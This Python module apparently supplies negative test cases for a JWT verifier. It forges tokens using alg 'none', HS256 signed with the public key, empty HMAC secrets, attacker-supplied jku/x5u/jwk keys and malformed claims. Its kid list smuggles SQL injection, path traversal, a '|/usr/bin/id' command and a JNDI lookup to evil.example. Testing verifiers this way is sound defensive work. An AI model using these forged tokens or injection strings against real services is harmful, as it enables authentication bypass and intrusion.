"""Tokens that nobody gave, in a table: for logins, and for the tool servers whose rows are `both`.

The tool servers' tokens are signed with a secret that one side shares with the other, so what is
about public keys, their names and the kinds of tokens that a provider makes, is for logins alone.
"""

import hashlib
import hmac
import json
import time
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from typing import Any

from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from issuer import Private, b64, jwk, new_key, signature


@dataclass(frozen=True)
class Forger:
    """What somebody who forges for one verifier knows: how a good token looks, never its key."""

    algorithm: str
    header: dict[str, Any]
    claims: Callable[[], dict[str, Any]]
    key: Any
    """The right one, for tokens that are wrong for another reason than their signature."""
    own: Any
    """The forger's own, of the same kind."""

    def token(self, header: dict[str, Any] | None = None, key: Any = None, **changed: Any) -> str:
        """Signed with the right key, or with `key`; what is None is left out."""
        head = _without_none({**self.header, **(header or {})})
        claims = _without_none({**self.claims(), **changed})
        return self.signed(f"{b64(head)}.{b64(claims)}", key)

    def signed(self, text: str, key: Any = None) -> str:
        """`text` with a signature."""
        return f"{text}.{signature(key or self.key, self.algorithm, text)}"

    def parts(self) -> list[str]:
        """Header, claims and signature of a good token."""
        return self.token().split(".")

    def unsigned(self, algorithm: Any) -> str:
        """A token that says itself that it needs no signature."""
        head = {**self.header, "alg": algorithm}
        return f"{b64(head)}.{b64(self.claims())}."


def _without_none(fields: dict[str, Any]) -> dict[str, Any]:
    return {name: value for name, value in fields.items() if value is not None}


@dataclass(frozen=True)
class Forged:
    """One row."""

    name: str
    make: Callable[[Forger], str]
    both: bool = True
    """Whether it is tried on the tool servers' tokens, too."""


def _raised(forger: Forger) -> str:
    head, _, signed = forger.parts()
    return f"{head}.{b64({**forger.claims(), 'sub': 'root', 'role': 'admin'})}.{signed}"


def _hmac_with_public_key(encoding: Encoding) -> Callable[[Forger], str]:
    """HS256 whose secret is the key that everybody can read (CVE-2015-9235)."""

    def make(forger: Forger) -> str:
        key: Private = forger.key
        secret = key.public_key().public_bytes(encoding, PublicFormat.SubjectPublicKeyInfo)
        text = f"{b64({**forger.header, 'alg': 'HS256'})}.{b64(forger.claims())}"
        return f"{text}.{b64(hmac.digest(secret, text.encode(), hashlib.sha256))}"

    return make


def _twice(claim: str, last: object) -> Callable[[Forger], str]:
    """A claim that stands twice, first as it should: two readers may each see another."""

    def make(forger: Forger) -> str:
        body = json.dumps(forger.claims())[:-1] + f", {json.dumps(claim)}: {json.dumps(last)}}}"
        return forger.signed(f"{b64(forger.header)}.{b64(body.encode())}")

    return make


def _two_headers(forger: Forger) -> str:
    """`alg` twice: who takes the first sees a good one, who takes the last sees none."""
    rest = json.dumps(forger.header)[1:]
    head = b64(("{" + rest[:-1] + ', "alg": "none"}').encode())
    return f"{head}.{b64(forger.claims())}."


def _brought(**header: Any) -> Callable[[Forger], str]:
    """Signed with the forger's key, which the header brings or names."""
    return lambda forger: forger.token(
        {name: value(forger) if callable(value) else value for name, value in header.items()},
        key=forger.own,
    )


def _bent(change: Callable[[list[str]], list[str]]) -> Callable[[Forger], str]:
    return lambda forger: ".".join(change(forger.parts()))


def _own_jwk(forger: Forger) -> dict[str, Any]:
    return jwk("now", forger.own, "ES256")


_DEEP = b'{"alg":' + b"[" * 5000 + b"]" * 5000 + b"}"


def _next(character: str) -> str:
    """The letter after it: the same bytes to who drops the bits that are left over."""
    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return letters[letters.index(character) ^ 1]


def _empty_hmac(forger: Forger) -> str:
    text = f"{b64({**forger.header, 'alg': 'HS256'})}.{b64(forger.claims())}"
    return f"{text}.{b64(hmac.digest(b'', text.encode(), hashlib.sha256))}"


def _in_json(forger: Forger) -> str:
    protected, payload, signed = forger.parts()
    whole = {"protected": protected, "payload": payload, "signature": signed}
    return json.dumps(whole, separators=(",", ":"))


def _raw(header: bytes | None, claims: bytes | None) -> Callable[[Forger], str]:
    """A good signature over bytes that no JSON writer makes."""
    return lambda forger: forger.signed(
        f"{b64(forger.header if header is None else header)}."
        f"{b64(forger.claims() if claims is None else claims)}"
    )


def _said(both: bool = True, **claims: Any) -> Callable[[str], Forged]:
    """A row whose claims alone are wrong."""
    return lambda name: Forged(name, lambda forger: forger.token(**claims), both)


def _headed(both: bool = True, **header: Any) -> Callable[[str], Forged]:
    """A row whose header alone is wrong."""
    return lambda name: Forged(name, lambda forger: forger.token(header), both)


def _ends(*signature: bytes) -> Callable[[Forger], str]:
    return _bent(lambda parts: [*parts[:2], *map(b64, signature)])


def _shifted(**seconds: int) -> Callable[[Forger], str]:
    """A token whose times are so far from now."""

    def make(forger: Forger) -> str:
        times: dict[str, Any] = {name: int(time.time()) + n for name, n in seconds.items()}
        return forger.token(**times)

    return make


_NO_ALGORITHM: tuple[Any, ...] = (
    "none",
    "None",
    "NONE",
    "NoNe",
    "none ",
    "",
    None,
    0,
    True,
    ["none"],
    {},
)
_KIDS = (
    *(None, "", "NOW", "now ", "now\u0000", 0, True, ["now"], {"now": 1}, "x" * 5000),
    *("../../../../dev/null", "/proc/sys/kernel/randomize_va_space", "https://evil.example/jwks"),
    *("' OR '1'='1", "now' UNION SELECT 'secret", "|/usr/bin/id", "${jndi:ldap://evil.example}"),
)
_TYPES = ("logout+jwt", "dpop+jwt", "secevent+jwt", "JWE", "", 1, ["JWT"])
_EVIL = "https://evil.example"

ROWS = [
    # signature
    *(Forged(f"alg {one!r}", partial(Forger.unsigned, algorithm=one)) for one in _NO_ALGORITHM),
    Forged("signature cut off", _ends(b"")),
    Forged("signature left out", _ends()),
    Forged("signature of another key", lambda f: f.token(key=f.own)),
    Forged("claims changed under the old signature", _raised),
    Forged("signature of zeros", _ends(bytes(64))),
    Forged("signature of zeros in DER", _ends(bytes.fromhex("3006020100020100"))),
    Forged("signature of ones", _ends(bytes([*[0] * 31, 1] * 2))),
    Forged("signature too long", _bent(lambda parts: [*parts[:2], parts[2] + "AAAA"])),
    Forged("signature with bits to spare", _bent(lambda p: [*p[:2], p[2][:-1] + _next(p[2][-1])])),
    Forged("HS256 with the public key in PEM", _hmac_with_public_key(Encoding.PEM), both=False),
    Forged("HS256 with the public key in DER", _hmac_with_public_key(Encoding.DER), both=False),
    Forged("HS256 with no secret", _empty_hmac),
    _headed(alg="RS256")("another kind of algorithm over a good signature"),
    _headed(alg="ES384")("another algorithm of the kind over a good signature"),
    # whose it is
    _said(iss=_EVIL)("another issuer"),
    Forged("issuer with a slash more", lambda f: f.token(iss=f.claims()["iss"] + "/")),
    Forged("issuer in a list", lambda f: f.token(iss=[f.claims()["iss"]])),
    _said(iss=None)("no issuer"),
    _said(aud="https://other.example")("another audience"),
    _said(aud=["https://other.example", "account"])("other audiences"),
    Forged("audience that begins alike", lambda f: f.token(aud=f.claims()["aud"] + ".evil")),
    _said(aud=None)("no audience"),
    _said(aud=[])("empty audience"),
    _said(sub=None)("no subject"),
    _said(sub="")("empty subject"),
    _said(sub=1)("subject that is a number"),
    _said(both=False, sub="x" * 256)("subject that is too long"),
    _said(both=False, azp="other")("another client's"),
    _said(both=False, azp=None, client_id="other")("another client's, without azp"),
    _said(both=False, azp=None)("nobody's"),
    _said(both=False, azp=["page"])("client in a list"),
    # when
    Forged("expired", _shifted(exp=-3600)),
    _said(exp=None)("never ends"),
    _said(exp="tomorrow")("ends in words"),
    Forged("ends in a text of digits", lambda f: f.token(exp=str(int(time.time()) + 300))),
    _said(exp=float("inf"))("ends at infinity"),
    _said(exp=float("nan"))("ends at no number"),
    _said(exp=True)("ends at true"),
    Forged("not valid yet", _shifted(nbf=3600)),
    Forged("given in the far future", _shifted(iat=10**9)),
    _said(iat=None)("not said when it was given"),
    # names of keys, and keys that are brought along
    *(
        _headed(both=False, kid=kid)(f"kid {str(kid)[:30]!r}, {type(kid).__name__}")
        for kid in _KIDS
    ),
    Forged("jku", _brought(jku=f"{_EVIL}/jwks", kid="theirs")),
    Forged("jku beside the right kid", _brought(jku=f"{_EVIL}/jwks")),
    Forged("x5u", _brought(x5u=f"{_EVIL}/certificate.pem")),
    Forged("x5c", _brought(x5c=["AAAA"])),
    Forged("jwk", _brought(jwk=_own_jwk), both=False),
    Forged("jwk under a name of its own", _brought(jwk=_own_jwk, kid="theirs"), both=False),
    # what kind it is
    *(_headed(both=False, typ=kind)(f"typ {kind!r}") for kind in _TYPES),
    _said(both=False, at_hash="x", nonce="y")("an ID token"),
    _said(both=False, events={})("a logout token"),
    *(_said(both=False, typ=kind)(f"claim typ {kind}") for kind in ("ID", "Refresh", "Logout", 1)),
    _said(both=False, cnf={"jkt": "x"})("bound to a proof"),
    _headed(crit=["exp"], exp=1)("critical extension"),
    _headed(crit="x")("critical nonsense"),
    _headed(b64=False, crit=["b64"])("payload that is not encoded"),
    _headed(b64=False)("payload that is not encoded, unsaid"),
    Forged("JWE", lambda _: f"{b64({'alg': 'dir', 'enc': 'A256GCM', 'kid': 'now'})}..AA.AA.AA"),
    Forged("a JWS in JSON", _in_json),
    # what is no token
    _said(pad="x" * 20_000)("huge"),
    Forged("nothing but points", lambda _: "ey" + "." * 20_000),
    Forged("broken base64", _bent(lambda parts: ["ey!!" + parts[0][4:], *parts[1:]])),
    Forged("four parts", _bent(lambda parts: [*parts, "AAAA"])),
    Forged("header that is a list", _raw(b"[1]", None)),
    Forged("header that is deep", _raw(_DEEP, None)),
    Forged("header whose alg stands twice", _two_headers),
    Forged("claims that are a list", _raw(None, b"[]")),
    Forged("claims that are no JSON", _raw(None, b"{")),
    Forged("claims that are no UTF-8", _raw(None, b'{"sub":"\xff"}')),
    Forged("claims that are deep", _raw(None, _DEEP)),
    Forged("audience twice, the last another's", _twice("aud", "https://other.example")),
    Forged("issuer twice, the last another's", _twice("iss", _EVIL)),
]


def login_forger(key: Private, header: dict[str, Any], claims: Callable[[], Any]) -> Forger:
    """Forges for logins that are signed with ES256."""
    return Forger("ES256", header, claims, key, new_key())
